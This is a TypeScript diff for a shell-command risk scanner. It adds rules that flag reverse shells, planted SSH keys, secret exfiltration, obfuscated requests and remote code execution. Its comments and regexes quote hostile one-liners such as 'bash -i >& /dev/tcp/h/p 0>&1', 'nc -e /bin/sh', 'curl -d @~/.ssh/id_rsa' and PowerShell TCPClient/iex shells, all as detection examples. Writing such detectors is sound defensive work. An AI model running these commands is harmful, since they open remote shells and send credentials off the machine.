@@ -15,6 +15,7 @@ import {
   hasShort,
   isDecoder,
   isFetch,
+  inlineCode,
   isInterpreterName,
   nestedSource,
   installedPackages,
@@ -34,9 +35,10 @@ import {
   baseName,
   writeTargets,
 } from "./risk-view.ts";
-import { CODE_SENDS_SECRETS_LINE, sentSecrets } from "./risk-secrets.ts";
+import { plantedKey, reverseShell, SOCKET_FDS } from "./risk-remote-access.ts";
+import { CODE_SENDS_SECRETS_LINE, exposedSecrets, isNetworkClient, sentSecrets } from "./risk-secrets.ts";
 import { foldConfusables, removeInvisible, showInvisible } from "./screening-text.ts";
-import { parseShell } from "./shell.ts";
+import { parseShell, type Redirect } from "./shell.ts";
 
 export type RiskLevel = "low" | "medium" | "high";
 
@@ -77,6 +79,12 @@ export interface CommandContext {
   pipedInto: string | null;
   /** The command runs inside a substitution (`$(…)`, backticks, `<(…)`): another command reads its output. */
   substituted: boolean;
+  /** The arguments of the next stage of the pipeline (empty for the last stage). */
+  pipedIntoArgs?: readonly string[];
+  /** Redirections of the command this one runs inside (`bash -c '…' > f`): its output goes there when it has none of its own. */
+  outerRedirects?: readonly Redirect[];
+  /** The directory an earlier `cd` of the script moved to, or null. */
+  cwd?: string | null;
 }
 
 /** A rule about one simple command. */
@@ -117,13 +125,40 @@ const TERMINAL_DEVICE = /^(\/dev\/(stdout|stderr|tty|fd\/[12])|con)$/i;
  * redirect of stdout (`>`, `>>`, `1>`, `&>`, `>|`) to a file or socket, else the next stage of its
  * pipeline, else the command around a substitution, else the terminal.
  */
-function whereSecretsGo(v: View, ctx: CommandContext): string {
+/**
+ * Does this command read a secret from its standard input, as its documentation tells one to pass it
+ * (`docker login --password-stdin`, `gh auth login --with-token`, `gh secret set NAME`,
+ * `wrangler secret put NAME`)? Piping a token into one keeps it off the command line.
+ */
+function readsSecretFromStdin(name: string, args: readonly string[]): boolean {
+  if (args.includes("--password-stdin") || args.includes("--with-token") || args.includes("--token-stdin")) return true;
+  if (name === "gh" && args[0] === "secret" && args[1] === "set") return true;
+  return (name === "wrangler" || args[0] === "wrangler") && args.includes("secret") && args.includes("put");
+}
+
+/** Does this next stage keep only lines whose pattern names no secret (`grep PATH`, `findstr JAVA_HOME`)? An inverted match keeps the rest. */
+function filtersOutSecrets(name: string | null, args: readonly string[]): boolean {
+  if (name === null || !/^(grep|egrep|fgrep|rg|findstr|select-string|sls)$/.test(name)) return false;
+  if (args.some((x) => /^-[a-zA-Z]*v[a-zA-Z]*$|^--invert-match$|^\/v$/i.test(x))) return false;
+  const patterns = args.filter((x) => !x.startsWith("-") && !x.startsWith("/"));
+  return patterns.length > 0 && !patterns.some((x) => SECRET_NAME_PATTERN.test(x));
+}
+/** Words of variable names that hold secrets or name a cloud or registry account. */
+const SECRET_NAME_PATTERN =
+  /SECRET|TOKEN|PASS|KEY|AUTH|CRED|SESSION|COOKIE|AWS|AZURE|GCP|GOOGLE|GITHUB|GH_|GITLAB|NPM|PYPI|OPENAI|ANTHROPIC|DATABASE|DB_|_URL|^\.|\*/i;
+
+/** Where a command's standard output goes, or null for the terminal (or the pipe): its own last redirection, else the command it runs inside. */
+function stdoutTarget(v: View, ctx: CommandContext): string | null {
   let target: string | null = null;
-  for (const r of v.cmd.redirects)
+  for (const r of [...(ctx.outerRedirects ?? []), ...v.cmd.redirects])
     if (/^(1?>>?|1?>\||&>>?)$/.test(r.op)) target = r.target.startsWith("&") || TERMINAL_DEVICE.test(r.target) ? null : r.target;
+  return target;
+}
+
+function whereSecretsGo(v: View, ctx: CommandContext): string {
+  const target = stdoutTarget(v, ctx);
   if (target !== null) {
     if (/^\/dev\/(tcp|udp)\//.test(target)) return `writes ${SECRETS} to a network connection (${short(target, 60)})`;
-    if (target === "/dev/null" || /^\$null$/i.test(target)) return `reads ${SECRETS} and discards them (to ${target})`;
     return `copies ${SECRETS} into the file ${short(target, 60)}`;
   }
   if (ctx.pipedInto !== null) return `passes ${SECRETS} through a pipe to ${ctx.pipedInto ? short(ctx.pipedInto, 40) : "another command"}`;
@@ -148,6 +183,11 @@ const FRAMEWORK_DB_RESET =
   /\b(rails|rake)\b.*\bdb:(drop|reset|schema:load|migrate:reset|purge)\b|\bprisma (migrate reset|db push .*--(force-reset|accept-data-loss))|\bmanage\.py (flush|reset_db)\b|\bartisan (migrate:(fresh|reset|refresh)|db:wipe)\b|\bsequelize(-cli)? db:drop\b|\bknex migrate:rollback --all\b|\balembic downgrade base\b|\btypeorm schema:drop\b|\bdoctrine:(database:drop|schema:drop)\b/;
 const DECODE_CALL =
   /b64decode|base64\.decode|decode\(['"]base64|frombase64string|atob\(|buffer\.from\([^)]*base64|codecs\.decode|unhexlify|decode_base64|unpack\(['"]m/i;
+// Inline code that downloads (urlopen, requests.get, https.get, fetch, Net::HTTP, LWP, open-uri, file_get_contents of a URL) …
+const CODE_FETCHES =
+  /urlopen\s*\(|requests\.get\s*\(|httpx\.get\s*\(|https?\.get\s*\(|\bfetch\s*\(|Net::HTTP|LWP::|HTTP::Tiny|open-uri|URI\.open|file_get_contents\s*\(\s*["']https?:|\bget\s*\(\s*["']https?:/;
+// … and runs what it got as code
+const CODE_EVALUATES = /\bexec\s*\(|\beval\s*[(\s]|new\s+Function\s*\(|vm\.runIn\w*Context|\binstance_eval\b|\bcompile\s*\(/;
 const EXEC_CALL = /\bexec\b|\beval\b|os\.system|subprocess|popen|child_process|execSync|invoke-expression|\biex\b|\bsystem\(|Function\(/i;
 
 const isEvalLike = (n: string) => n === "eval" || n === "iex" || n === "invoke-expression" || n === "source" || n === ".";
@@ -169,6 +209,9 @@ const HOW_HIDDEN: Record<Exclude<View["hidden"], "decoded" | undefined>, string>
   quotes: "quotes inside the word",
   backslashes: "backslashes inside the word",
   echo: "a command substitution that echoes it",
+  escapes: "escape codes ($'\\x63…')",
+  variables: "pieces in variables or a default",
+  glob: "a glob the shell resolves to it",
 };
 
 // --- Command rules, in the order their flags are reported -----------------------------------------
@@ -901,18 +944,48 @@ export const COMMAND_RULES: readonly CommandRule[] = [
       const printsSecrets =
         (/^(cat|type|get-content|gc|less|more|head|tail|bat)$/.test(n) && a.some((x) => SECRET_FILE.test(x))) ||
         (n === "printenv" && positional(v).length === 0) ||
-        (n === "env" && a.length === 0) ||
+        (n === "env" && a.every((x) => x.startsWith("-"))) ||
         (/^(echo|write-output|write-host|printf)$/.test(n) && a.some((x) => SECRET_VARIABLE.test(x))) ||
         (/^(get-childitem|gci|dir|ls)$/.test(n) && a.some((x) => /^env:\\?$/i.test(x))) ||
         (n === "security" && /^find-(generic|internet)-password$/.test(a[0] ?? "") && has(v, "-w", "-g"));
       // piped into a network client, they are not printed but sent: sends_local_secrets, below
       if (!printsSecrets || ctx.laterSink) return null;
+      // read and thrown away (`cat ~/.aws/credentials > /dev/null` checks it is readable): nothing is exposed
+      const target = stdoutTarget(v, ctx);
+      if (target !== null && (target === "/dev/null" || /^\$null$/i.test(target) || /^nul$/i.test(target))) return null;
+      // `env | grep PATH`: only the variables the filter names are shown; `printenv | grep AWS` shows secrets
+      if ((n === "env" || n === "printenv") && filtersOutSecrets(ctx.pipedInto, ctx.pipedIntoArgs ?? [])) return null;
+      // `echo $TOKEN | docker login --password-stdin`: the way the tool's documentation gives to pass a secret
+      if (ctx.pipedInto !== null && readsSecretFromStdin(ctx.pipedInto, ctx.pipedIntoArgs ?? [])) return null;
       return { level: "medium", detail: whereSecretsGo(v, ctx) };
     },
   },
 
   // local secrets sent off the machine (risk-secrets.ts): curl -d @~/.ssh/id_rsa, scp ~/.aws/credentials host:, env | curl …
-  { flag: "sends_local_secrets", level: "graded", match: (v, ctx) => sentSecrets(v, ctx.laterSink, ctx.vars) },
+  // a shell a remote host controls (bash -i >& /dev/tcp/h/p 0>&1, nc -e /bin/sh h p), a key given in the trail added to authorized_keys
+  {
+    flag: "remote_script_execution",
+    level: "graded",
+    match: (v, ctx) => reverseShell(v, (ctx.vars.get(SOCKET_FDS) ?? "").split(",")),
+  },
+  {
+    flag: "remote_script_execution",
+    level: "high",
+    match: (v, ctx) =>
+      (v.name === "echo" || v.name === "printf") &&
+      plantedKey(v, [
+        ...(ctx.outerRedirects ?? []).filter((r) => />/.test(r.op)).map((r) => r.target),
+        ...writeTargets(v).map((w) => w.target),
+        // `printf … | tee -a ~/.ssh/authorized_keys`
+        ...(ctx.pipedInto === "tee" ? (ctx.pipedIntoArgs ?? []).filter((x) => !x.startsWith("-")) : []),
+      ]),
+  },
+  // and handed out without a send: a file server over ~ or /, ~/.aws mounted into a stranger's image, git add .env (exposedSecrets)
+  {
+    flag: "sends_local_secrets",
+    level: "graded",
+    match: (v, ctx) => [...sentSecrets(v, ctx.laterSink, ctx.vars), ...exposedSecrets(v, ctx.cwd ?? null)],
+  },
 
   // unpinned installs
   {
@@ -966,6 +1039,29 @@ export const COMMAND_RULES: readonly CommandRule[] = [
     flag: "remote_script_execution",
     level: "high",
     match: (v) => !evaluatesText(v.name) && hiddenArgument(v) === "fetch" && `${v.name} runs a script fetched from the network`,
+  },
+  {
+    // curl -d @$(echo fi8uc3NoL2lkX3JzYQ== | base64 -d) …: what a request sends is named by decoded text
+    flag: "obfuscated_command",
+    level: "medium",
+    match: (v) =>
+      isNetworkClient(v) &&
+      v.args.some(subsDecode) &&
+      `${v.name} sends data or a file named by text decoded at run time: a reader cannot see what it sends`,
+  },
+  {
+    // python -c "exec(urllib.request.urlopen('https://…').read())", node -e "https.get(…, r => … eval(d))"
+    flag: "remote_script_execution",
+    level: "high",
+    match: (v) => {
+      const code = isInterpreterName(v.name) ? inlineCode(v) : null;
+      return (
+        code !== null &&
+        CODE_FETCHES.test(code) &&
+        CODE_EVALUATES.test(code) &&
+        `${v.name} runs inline code that downloads code and runs it`
+      );
+    },
   },
   {
     flag: "obfuscated_command",
@@ -1130,6 +1226,24 @@ function deceptiveHosts(t: string): string | null {
 
 export const TEXT_RULES: readonly TextRule[] = [
   { flag: "obfuscated_command", level: "high", match: deceptiveHosts },
+  {
+    // New-Object Net.Sockets.TCPClient("h",p); … iex $d …: the PowerShell reverse shell one-liner (its `;` split it into commands)
+    flag: "remote_script_execution",
+    level: "high",
+    match: (t) =>
+      /Sockets\.TCPClient\s*\([^\n]{0,1500}?(\biex\b|invoke-expression)/i.test(t)
+        ? "PowerShell connects to a remote host and runs what it sends (a reverse shell)"
+        : null,
+  },
+  {
+    // & ([scriptblock]::Create((iwr https://…).Content)): PowerShell runs fetched text without iex
+    flag: "remote_script_execution",
+    level: "high",
+    match: (t) =>
+      /\[scriptblock\]::create\s*\([^\n]{0,300}?(\biwr\b|\birm\b|invoke-webrequest|invoke-restmethod|downloadstring|webclient)/i.test(t)
+        ? "PowerShell makes a script block of text fetched from the network and runs it"
+        : null,
+  },
   {
     flag: "database_destructive",
     level: "high",
